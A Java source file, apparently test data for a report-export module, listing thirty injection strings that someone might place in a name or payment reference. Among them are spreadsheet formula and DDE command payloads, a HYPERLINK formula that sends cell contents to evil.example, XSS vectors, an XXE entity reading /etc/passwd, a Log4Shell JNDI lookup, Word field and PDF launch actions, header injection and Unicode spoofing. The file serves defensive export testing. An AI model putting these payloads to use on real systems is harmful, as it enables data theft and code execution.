package io.casewright.report.export;

import java.util.List;

/// Thirty texts that somebody could put into a payment reference or a name to have a program do something.
final class Payloads {

    static final List<String> ALL = List.of(
            "=1+1",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"pay\")",
            "=cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!A1",
            "-2+3+cmd|' /C calc'!D2",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1",
            "＝1+1",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>",
            "</title></style><script>alert(1)</script>",
            "<!--",
            "]]><evil/>",
            "&lt;b&gt; &amp; &#x3C;script&#x3E; &xxe;",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
            "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>",
            "<iframe src=file:///etc/passwd></iframe><link rel=stylesheet href=https://evil.example/x.css>",
            "![x](https://evil.example/x.png)",
            "[click](javascript:alert(1))",
            "<https://evil.example/> https://evil.example/ www.evil.example mailto:a@evil.example",
            "# Heading",
            "1. one | two |\n| --- | --- |",
            "```\ncode\n``` and `code` and **bold** _it_ ~~no~~",
            "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" }",
            "{ INCLUDEPICTURE \"https://evil.example/x.png\" }",
            "(/JavaScript) /OpenAction << /S /Launch >> endstream endobj %%EOF",
            "${jndi:ldap://evil.example/a} #{7*7} {{7*7}} <%= 7*7 %>",
            "a\u0000b\u0007c\u001B[31md\r\nContent-Type: text/html\r\n\r\n",
            "gnp.exe\u202Egpj\u202C \u2066x\u2069 \uFEFF\u200B \uDB40\uDC41\uDB40\uDC42 \uD800 \uFFFE");

    private Payloads() {}
}
